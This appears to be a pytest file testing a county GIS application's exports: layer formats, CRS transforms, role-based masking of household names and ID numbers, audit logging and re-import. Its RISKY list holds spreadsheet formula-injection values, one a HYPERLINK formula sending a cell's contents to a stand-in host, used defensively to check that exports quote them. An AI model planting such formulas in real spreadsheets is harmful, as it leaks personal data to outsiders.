"""Exports: every layer and format, masked per role, audited, and round-tripping through the importer."""

import csv
import io
import math
import zipfile

import pyogrio
import pyproj
import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select, text

from app import exports, fields
from app.extensions import db
from app.importers.households import import_households
from app.models import AuditEvent, User
from tests.conftest import cadre_village

# What gis exports: no pairings or visits one by one, counts only (#11).
GIS_LAYERS = ("townships", "villages", "natural_villages", "households")


def user(accounts, role: str) -> User:
    return db.session.scalar(select(User).where(User.username == accounts[role][0]))


def unzip(content: bytes, folder):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        archive.extractall(folder)
        return sorted(archive.namelist())


@pytest.mark.usefixtures("app_context")
def test_a_geopackage_holds_every_layer_with_user_and_time(tmp_path, accounts, county):
    admin = user(accounts, "admin")
    _, summary = exports.export("all", "gpkg", user=admin, crs="EPSG:4490", out=tmp_path / "all.gpkg")
    layers = dict(pyogrio.list_layers(tmp_path / "all.gpkg"))
    assert layers.pop("layer_styles") is None  # QGIS styles, a plain table
    assert layers == {
        "townships": "MultiPolygon",
        "villages": "MultiPolygon",
        "natural_villages": "MultiPolygon",
        "households": "Point",
        "pairings": "LineString",
        "visits": "Point",
        "demands": "Point",  # none yet in the test county: still a point layer
    }
    info = pyogrio.read_info(tmp_path / "all.gpkg", layer="households")
    assert info["features"] == len(county.households)
    assert info["dataset_metadata"]["exported_by"] == accounts["admin"][0]
    assert info["dataset_metadata"]["exported_at"].startswith("20")
    assert pyproj.CRS(info["crs"]).to_epsg() == 4490
    natural = pyogrio.read_dataframe(tmp_path / "all.gpkg", layer="natural_villages")
    assert natural.households.sum() == len(county.households)
    assert natural.dibao.sum() == county.households.dibao.sum()
    assert summary["features"]["natural_villages"] == len(county.natural_villages)


@pytest.mark.usefixtures("app_context")
def test_an_export_is_audited(accounts):
    admin = user(accounts, "admin")
    before = db.session.scalar(
        select(func.count()).select_from(AuditEvent).where(AuditEvent.action == "export")
    )
    exports.export("townships", "geojson", user=admin)
    events = db.session.scalars(
        select(AuditEvent).where(AuditEvent.action == "export").order_by(AuditEvent.id.desc())
    ).all()
    assert len(events) == before + 1
    assert (events[0].username, events[0].target, events[0].detail["format"]) == (
        accounts["admin"][0],
        "townships",
        "geojson",
    )


@pytest.mark.usefixtures("app_context")
def test_a_zipped_shapefile_has_cpg_and_short_field_names(tmp_path, accounts, county):
    content, summary = exports.export("all", "shp", user=user(accounts, "admin"), crs="EPSG:4545")
    assert summary["file_name"].endswith(".zip")
    names = unzip(content, tmp_path)
    for layer in exports.LAYERS:
        assert {f"{layer}.{ext}" for ext in ("shp", "shx", "dbf", "prj", "cpg")} <= set(names)
    assert (tmp_path / "households.cpg").read_text().strip().upper() in ("UTF-8", "UTF8")
    frame = pyogrio.read_dataframe(tmp_path / "natural_villages.shp")
    assert all(len(c) <= 10 for c in frame.columns)
    assert set(frame.name) == set(county.natural_villages.name)  # Chinese survives
    assert pyproj.CRS(pyogrio.read_info(tmp_path / "households.shp")["crs"]).to_epsg() == 4545
    mapping = (tmp_path / "fields.csv").read_text(encoding="utf-8-sig")
    assert "households,left_behind_children,l_b_chld" in mapping


def test_shapefile_names_are_short_unique_and_deterministic():
    columns = [
        "left_behind_children",
        "left_behind_children_share",
        "natural_village_code",
        "aaaaaaaaaaaaa1",
        "aaaaaaaaaaaaa2",
    ]
    names = exports.shapefile_names(columns)
    assert names == exports.shapefile_names(columns)
    assert all(len(n) <= 10 for n in names.values())
    assert len({n.lower() for n in names.values()}) == len(columns)


@pytest.mark.usefixtures("app_context")
def test_a_gauss_kruger_export_is_in_metres(tmp_path, accounts, county):
    exports.export(
        "households", "gpkg", user=user(accounts, "admin"), crs="EPSG:4545", out=tmp_path / "h.gpkg"
    )
    frame = pyogrio.read_dataframe(tmp_path / "h.gpkg", layer="households").set_index("code")
    first = county.households.iloc[0]
    expected = pyproj.Transformer.from_crs(4490, 4545, always_xy=True).transform(
        first.geometry.x, first.geometry.y
    )
    point = frame.geometry[first.code]
    assert math.hypot(point.x - expected[0], point.y - expected[1]) < 0.001


@pytest.mark.usefixtures("app_context")
def test_gis_staff_get_masked_names_and_no_personal_fields(tmp_path, accounts, county):
    content, _ = exports.export("households", "geojson", user=user(accounts, "gis"), crs="EPSG:4490")
    path = tmp_path / "h.geojson"
    path.write_bytes(content)
    frame = pyogrio.read_dataframe(path)
    assert len(frame) == len(county.households)
    assert frame.head_name.str.fullmatch(r".\*").all()
    assert not {"id_number", "address", "left_behind_children"} & set(frame.columns)
    assert not set(county.households.id_number) & set(content.decode().split('"'))


@pytest.mark.usefixtures("app_context")
def test_a_leader_gets_masked_id_numbers(tmp_path, accounts):
    exports.export("households", "csv", user=user(accounts, "leader"), out=tmp_path / "h.csv")
    text_ = (tmp_path / "h.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text_)))
    assert all(r["id_number"][4:14] == "*" * 10 for r in rows)


@pytest.mark.usefixtures("app_context")
def test_a_cadre_gets_only_the_assigned_villages_households(tmp_path, accounts, county):
    exports.export("households", "gpkg", user=user(accounts, "cadre"), out=tmp_path / "h.gpkg")
    frame = pyogrio.read_dataframe(tmp_path / "h.gpkg", layer="households")
    village = cadre_village(county)
    expected = county.households[county.households.natural_village_code.str.startswith(village)]
    assert sorted(frame.code) == sorted(expected.code)
    assert "id_number" in frame.columns  # full detail in the cadre's own village


@pytest.mark.usefixtures("app_context")
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_then_import_gives_the_same_households(tmp_path, accounts, county, fmt):
    exports.export(
        "households", fmt, user=user(accounts, "admin"), crs="EPSG:4490", out=tmp_path / f"h.{fmt}"
    )
    db.session.execute(text("DELETE FROM household"))
    result = import_households(tmp_path / f"h.{fmt}")
    assert result.problems == []
    assert result.inserted == len(county.households)
    stored = db.session.execute(
        text("""SELECT h.code, h.head_name, h.id_number, h.address, h.members, h.poverty_status, h.dibao,
                       h.left_behind_children, h.income_per_capita, nv.code, ST_X(h.geom), ST_Y(h.geom)
                FROM household h JOIN natural_village nv ON nv.id = h.natural_village_id ORDER BY h.code""")
    ).all()
    original = county.households.sort_values("code")
    worst = 0.0
    for row, h in zip(stored, original.itertuples(), strict=True):
        assert row[:10] == (
            h.code,
            h.head_name,
            h.id_number,
            h.address,
            h.members,
            h.poverty_status,
            bool(h.dibao),
            h.left_behind_children,
            h.income_per_capita,
            h.natural_village_code,
        )
        dx = (row[10] - h.geometry.x) * 111_320 * math.cos(math.radians(h.geometry.y))
        worst = max(worst, math.hypot(dx, (row[11] - h.geometry.y) * 110_574))
    assert worst < 0.001


# Addresses a spreadsheet program would run as formulas (OWASP's first characters).
RISKY = ['=HYPERLINK("http://example.invalid/?d="&A2,"点击查看")', "+1", "@SUM(A1:A9)", "-2+3", "\t=1+1"]


def _make_risky(county) -> dict[str, str]:
    """Give five households an address, and the first a head's name, that look like formulas."""
    codes = list(county.households.code.head(len(RISKY)))
    for code, value in zip(codes, RISKY, strict=True):
        db.session.execute(text("UPDATE household SET address = :v WHERE code = :c"), {"v": value, "c": code})
    db.session.execute(text("UPDATE household SET head_name = '=1+2' WHERE code = :c"), {"c": codes[0]})
    return dict(zip(codes, RISKY, strict=True))


def _csv_rows(path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


@pytest.mark.usefixtures("app_context")
def test_formula_looking_text_is_quoted_in_a_csv_and_numbers_stay_numbers(tmp_path, accounts, county):
    risky = _make_risky(county)
    exports.export("households", "csv", user=user(accounts, "admin"), out=tmp_path / "h.csv")
    rows = {r["code"]: r for r in _csv_rows(tmp_path / "h.csv")}
    for code, value in risky.items():
        assert rows[code]["address"] == "'" + value
    assert rows[next(iter(risky))]["head_name"] == "'=1+2"
    for row in rows.values():
        assert float(row["lon"]) > 100 and row["members"].isdigit()
        for field, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (field, cell)


@pytest.mark.usefixtures("app_context")
def test_formula_looking_text_is_a_text_cell_in_an_xlsx(tmp_path, accounts, county):
    risky = _make_risky(county)
    exports.export("households", "xlsx", user=user(accounts, "admin"), out=tmp_path / "h.xlsx")
    sheet = load_workbook(tmp_path / "h.xlsx")["农户"]
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    cells = {row[header.index("户编码")].value: row for row in sheet.iter_rows(min_row=2)}
    for code, value in risky.items():
        address = cells[code][header.index("地址")]
        assert address.data_type == "s" and address.value == "'" + value
    for row in cells.values():
        assert row[header.index("家庭人口")].data_type == "n" and row[header.index("经度")].data_type == "n"
        assert all(c.data_type != "f" and not str(c.value).startswith("=") for c in row)


@pytest.mark.usefixtures("app_context")
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_neutralised_export_re_imports_unchanged(tmp_path, accounts, county, fmt):
    risky = _make_risky(county)
    exports.export("households", fmt, user=user(accounts, "admin"), out=tmp_path / f"h.{fmt}")
    db.session.execute(text("DELETE FROM household"))
    result = import_households(tmp_path / f"h.{fmt}")
    assert result.problems == [] and result.inserted == len(county.households)
    stored = dict(db.session.execute(text("SELECT code, address FROM household")).all())
    assert {code: stored[code] for code in risky} == risky
    name = db.session.execute(
        text("SELECT head_name FROM household WHERE code = :c"), {"c": next(iter(risky))}
    ).scalar_one()
    assert name == "=1+2"


@pytest.mark.usefixtures("app_context")
def test_an_xlsx_reads_in_chinese_with_numbers_as_numbers(tmp_path, accounts, county):
    exports.export("all", "xlsx", user=user(accounts, "admin"), out=tmp_path / "all.xlsx")
    book = load_workbook(tmp_path / "all.xlsx")
    assert book.sheetnames == ["乡镇", "行政村", "自然寨", "农户", "结对帮扶", "走访", "群众诉求"]
    sheets = {name: list(book[name].iter_rows(values_only=False)) for name in book.sheetnames}
    # The test county has no demands: GDAL writes their sheet empty, without a header row.
    headers = {name: [c.value for c in rows[0]] for name, rows in sheets.items() if rows}
    assert headers["农户"][:5] == ["户编码", "户主", "身份证号", "地址", "家庭人口"]
    assert {"贫困属性", "低保", "人均纯收入（元）", "自然寨编码", "经度", "纬度"} <= set(headers["农户"])
    assert {"户数", "建档立卡户数", "建档立卡户占比", "人均纯收入（元）", "中心点经度"} <= set(
        headers["自然寨"]
    )
    assert headers["乡镇"] == ["区划代码", "名称", "上级区划代码", "中心点经度", "中心点纬度"]
    for header in headers.values():  # no snake_case, no WKT
        assert [h for h in header if h.isascii()] == [], header
    numeric = {
        "农户": ("家庭人口", "人均纯收入（元）", "经度", "纬度"),
        "自然寨": ("户数", "建档立卡户占比", "人均纯收入（元）", "中心点纬度"),
    }
    for name, columns in numeric.items():
        for row in sheets[name][1:]:
            for column in columns:
                cell = row[headers[name].index(column)]
                assert cell.value is None or cell.data_type == "n", (name, column, cell.value)
    households = sheets["农户"][1:]
    assert len(households) == len(county.households)
    statuses = {row[headers["农户"].index("贫困属性")].value for row in households}
    assert statuses <= {"一般户", "未脱贫户", "已脱贫户", "监测户"}
    assert {row[headers["农户"].index("低保")].value for row in households} == {"是", "否"}
    pairing = ["编号", "帮扶干部", "单位", "户编码", "开始日期", "结束日期", "当前结对"]
    assert headers["结对帮扶"][:7] == pairing
    assert {"户编码", "帮扶干部", "走访日期", "走访类型", "现场定位", "走访情况", "经度", "纬度"} <= set(
        headers["走访"]
    )
    kinds = {row[headers["走访"].index("走访类型")].value for row in sheets["走访"][1:]}
    assert kinds == {"日常走访", "节日慰问", "诉求回访"}
    lon, lat = (sheets["乡镇"][1][headers["乡镇"].index(c)].value for c in ("中心点经度", "中心点纬度"))
    assert 100 < lon < 115 and 24 < lat < 30
    # A program reading the sheets gets the machine names back.
    for layer, sheet in exports.SHEETS.items():
        names = fields.column_names(layer, "zh")
        assert all(header in names for header in headers.get(sheet, ())), (layer, headers.get(sheet))
    assert fields.column_names("households", "zh")["户编码"] == "code"
    assert fields.column_names("natural_villages", "zh")["自然寨编码"] == "code"
    assert fields.column_names("natural_villages", "zh")["建档立卡户占比"] == "registered_poor_share"


@pytest.mark.usefixtures("app_context")
def test_an_english_xlsx_reads_in_english_and_re_imports(tmp_path, accounts, county):
    exports.export("households", "xlsx", user=user(accounts, "admin"), out=tmp_path / "h.xlsx", lang="en")
    sheet = load_workbook(tmp_path / "h.xlsx")["households"]
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    assert header[:3] == ["Household code", "Head of household", "ID number"] and "Longitude" in header
    words = {c.value for row in sheet.iter_rows(min_row=2) for c in row[header.index("Poverty status") :][:2]}
    assert {"Not poor", "no"} <= words
    db.session.execute(text("DELETE FROM household"))
    result = import_households(tmp_path / "h.xlsx")
    assert result.problems == [] and result.inserted == len(county.households)
    stored = dict(db.session.execute(text("SELECT code, poverty_status FROM household")).all())
    assert stored == dict(zip(county.households.code, county.households.poverty_status, strict=True))


# --- HTTP and CLI ---------------------------------------------------------------


def test_the_export_endpoint_sends_a_file(client, login, app, accounts):
    login("gis")
    response = client.get("/export/natural_villages.geojson?crs=EPSG:4545")
    assert response.status_code == 200
    assert response.mimetype == "application/geo+json"
    assert "attachment" in response.headers["Content-Disposition"]
    assert b'"natural_villages"' in response.data
    assert b"EPSG::4545" in response.data or b"4545" in response.data
    with app.app_context():
        last = db.session.scalars(select(AuditEvent).order_by(AuditEvent.id.desc())).first()
        assert (last.action, last.username) == ("export", accounts["gis"][0])


@pytest.mark.parametrize(
    ("path", "status", "words"),
    [
        ("/export/households.gpkg?crs=EPSG:3857", 400, "crs='EPSG:3857'"),
        ("/export/roads.gpkg", 404, "layer 'roads'"),
        ("/export/households.dwg", 404, "format 'dwg'"),
        ("/export/households.gpkg?srs=x", 400, "unknown parameter 'srs'"),
    ],
)
def test_bad_export_requests_are_named(client, login, path, status, words):
    login("admin")
    response = client.get(path, headers={"Accept": "application/json"})
    assert response.status_code == status
    assert words in response.json["message"]


def test_anonymous_users_cannot_export(client):
    response = client.get("/export/households.gpkg")
    assert response.status_code in (302, 401)


@pytest.mark.usefixtures("app_context")
def test_the_export_command_writes_a_geopackage(app, accounts, tmp_path):
    out = tmp_path / "county.gpkg"
    result = app.test_cli_runner().invoke(
        args=["export", "all", "--format", "gpkg", "--user", accounts["gis"][0], "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert "households 3,000" in result.output
    assert [name for name, kind in pyogrio.list_layers(out) if kind] == list(GIS_LAYERS)


@pytest.mark.usefixtures("app_context")
def test_a_geopackage_carries_default_qgis_styles(tmp_path, accounts):
    import xml.etree.ElementTree as ET

    path = tmp_path / "all.gpkg"
    exports.export("all", "gpkg", user=user(accounts, "admin"), out=path)
    # QGIS reads its default styles from the GeoPackage's layer_styles table, an attribute layer to GDAL.
    styles = pyogrio.read_dataframe(path, layer="layer_styles").sort_values("f_table_name")
    assert list(styles.f_table_name) == sorted(exports.LAYERS)
    for row in styles.itertuples():
        assert row.f_geometry_column == pyogrio.read_info(path, layer=row.f_table_name)["geometry_name"]
        assert row.useAsDefault
        assert ET.fromstring(row.styleQML.split("'SYSTEM'>", 1)[1]).tag == "qgis"


@pytest.mark.usefixtures("app_context")
def test_the_default_crs_is_crs84(tmp_path, accounts, county):
    exports.export("villages", "gpkg", user=user(accounts, "admin"), out=tmp_path / "v.gpkg")
    crs = pyproj.CRS(pyogrio.read_info(tmp_path / "v.gpkg", layer="villages")["crs"])
    assert crs.equals(pyproj.CRS("OGC:CRS84"))
    with pytest.raises(ValueError, match="crs='EPSG:3857'"):
        exports.parse_crs("EPSG:3857")


@pytest.mark.parametrize("layer", exports.LAYERS)
@pytest.mark.parametrize("lang", ["zh", "en"])
def test_every_header_names_one_column(layer, lang):
    names = fields.column_names(layer, lang)
    assert all(fields.column_label(layer, column, lang) == header for header, column in names.items())
    assert len(names) == len(fields.exported_columns(layer))  # no two columns share a header
